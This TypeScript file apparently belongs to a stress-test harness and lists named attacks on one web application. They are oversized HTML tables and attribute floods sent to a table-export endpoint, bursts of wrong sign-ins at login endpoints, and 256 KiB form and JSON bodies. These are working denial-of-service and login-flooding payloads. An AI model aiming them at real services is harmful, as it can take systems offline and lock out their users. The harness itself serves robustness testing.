import { DRIVE_ATTACKS } from "./driveAttacks";
import { type Attack, post, pupils } from "./pupils";

const MOST_BODY = 1 << 18;
const MOST_TABLE = 4 << 20;

/** Every pupil sends the same form to the table download at the same moment. */
const tables =
  (count: number, form: string): Attack =>
  async (url) =>
    (await pupils(url, count)).map(
      (cookie) => () => post(url, "/api/base/common/table2xls", form, { cookie, origin: url }),
    );

/** A form with a table, cut to what the call takes. */
const tableForm = (html: string) =>
  new URLSearchParams({ title: "t", data: html }).toString().slice(0, MOST_TABLE - 1);

const repeated =
  (count: number, send: (url: string, index: number) => Promise<Response>): Attack =>
  (url) =>
    Promise.resolve(Array.from({ length: count }, (_, index) => () => send(url, index)));

const filled = (text: string) => text.repeat(Math.ceil(MOST_BODY / text.length)).slice(0, MOST_BODY - 64);

const row = `<tr>${"<td>数据 data</td>".repeat(10)}</tr>`;

/** Everything tried against the one thread, by name. */
export const ATTACKS: Readonly<Record<string, Attack>> = {
  ...DRIVE_ATTACKS,
  "42 kB of table, a grid of 10 million cells, from 6 pupils": tables(
    6,
    tableForm(`<table><tr>${"<td>".repeat(1000)}${"<tr>".repeat(9999)}</table>`),
  ),
  "the largest table there may be, from 6 pupils": tables(6, tableForm(`<table>${row.repeat(5000)}</table>`)),
  "4 MiB of one tag's attributes, from 2 pupils": tables(
    2,
    tableForm(`<table><tr><td ${Array.from({ length: 500_000 }, (_, index) => `a${index}`).join(" ")}>x`),
  ),
  "4 MiB of encoded Chinese, from 6 pupils": tables(6, tableForm(`<table><tr><td>${"数".repeat(460_000)}`)),
  "200 wrong sign-ins with 200 names": repeated(200, (url, index) =>
    post(url, "/api/uaa/oauth/login", `username=unknown-${index}-${process.pid}&password=wrong`),
  ),
  "200 wrong sign-ins at the demo launcher": repeated(200, (url, index) =>
    post(url, "/launcher/", `account=unknown-${index}-${process.pid}&password=wrong`, { origin: url }),
  ),
  "256 KiB of form fields, 20 at once": repeated(20, (url) =>
    post(url, "/api/uaa/oauth/login", filled("a.b[0].c=%E6%95%B0&")),
  ),
  "256 KiB of one encoded field, 20 at once": repeated(20, (url) =>
    post(url, "/api/uaa/oauth/login", `username=${filled("%E6%95%B0")}`),
  ),
  "256 KiB of JSON, 20 at once": repeated(20, (url) =>
    post(url, "/api/uaa/oauth/login", `{"username":[${filled('{"a":1},').slice(0, -32)}0]}`, {
      "content-type": "application/json",
    }),
  ),
};
